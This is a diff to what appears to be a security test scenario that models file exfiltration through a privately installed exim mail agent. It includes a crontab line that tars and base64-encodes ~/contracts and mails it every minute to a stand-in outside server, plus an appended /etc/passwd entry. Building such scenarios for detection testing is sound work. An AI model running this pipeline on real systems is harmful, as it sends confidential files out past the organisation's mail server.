@@ -1,6 +1,6 @@
 # A whole mail transfer agent, run by a user for a user.
 title="exim -t with a spool of its own sends an archive straight to an outside server"
-what="Somebody with clerk's login has unpacked exim4 below ~/.cache and gives it a configuration and a spool there. A crontab line packs ~/contracts, encodes it with base64 and pipes the message to exim -C -t, which delivers at once to 203.0.113.10 port 25, past the own server."
+what="Somebody with clerk's login has unpacked exim4 below ~/.cache and gives it a configuration and a spool there. A crontab line packs ~/contracts, encodes it with base64 and pipes the message to exim -C -t, which delivers at once to 203.0.113.10 port 25, past the own server. The account Debian-exim, which the program looks up, is left of an earlier installation."
 host=ws3.example.org user=clerk daemons="cron sshd"
 
 setup() {
@@ -26,6 +26,7 @@ smtp:
   hosts_try_fastopen =
 CF
   chown -R clerk: /home/clerk/.cache /home/clerk/contracts
+  echo 'Debian-exim:x:117:117::/var/spool/exim4:/usr/sbin/nologin' >> /etc/passwd; echo 'Debian-exim:x:117:' >> /etc/group
   printf '* * * * * (echo To: vault@example.net; echo Subject: c; echo; tar -czf - -C $HOME contracts | base64) | $HOME/.cache/ex/exim -C $HOME/.cache/ex/conf -odi -t\n' > "$base/out/crontab"
 }
 act() {
